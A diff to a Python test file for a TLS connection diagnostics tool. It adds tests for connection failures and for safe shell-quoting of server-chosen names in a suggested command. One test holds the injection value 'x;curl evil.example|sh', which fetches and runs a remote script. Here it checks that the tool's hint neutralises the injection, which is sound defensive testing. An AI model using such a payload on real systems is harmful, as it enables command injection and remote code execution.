@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from itertools import pairwise
@@ -110,6 +111,29 @@ def test_no_tls() -> None:
     silent = replace(plain, plain=None, anonymous=Talk(ending=Ending.SILENT, broke="no answer in time"))
     assert cause(silent).endswith("silent")
     assert (undecided(silent), undecided(plain)) == (True, False)
+
+
+@pytest.mark.parametrize(
+    ("talk", "code"),
+    [
+        (Talk(ending=Ending.CLOSED, version=TlsVersion.TLS_1_3, broke="the connection was closed"), "broken-off"),
+        (Talk(ending=Ending.GARBLED, version=TlsVersion.TLS_1_3, broke="too many bytes"), "broken-off"),
+        (Talk(ending=Ending.SILENT, version=TlsVersion.TLS_1_3, broke="no answer in time"), "broken-off"),
+        (replace(admitted(), answer=Answer(status=302, date=None, api_version="")), "engine-error"),
+        (replace(admitted(), answer=Answer(status=401, date=None, api_version="")), "engine-error"),
+    ],
+)
+def test_what_speaks_tls_and_is_no_engine_does_not_pass_for_one(talk: Talk, code: str) -> None:
+    seen = replace(probe(), ours=None, anonymous=replace(talk, chain=probe().chain))
+    (found,) = diagnose(seen, None, NOW)
+    assert (found.code, found.severity) == (code, Severity.ERROR)
+
+
+def test_a_name_that_the_server_chose_is_no_command() -> None:
+    evil = "x;curl evil.example|sh"
+    found = diagnose(probe(server(CA, evil), dialled="other.example.com"), folder(), NOW)
+    (hint,) = [one.hint for one in found if one.code == "name-not-listed"]
+    assert evil in shlex.split(hint.partition("again: ")[2])
 
 
 def test_old_versions() -> None:
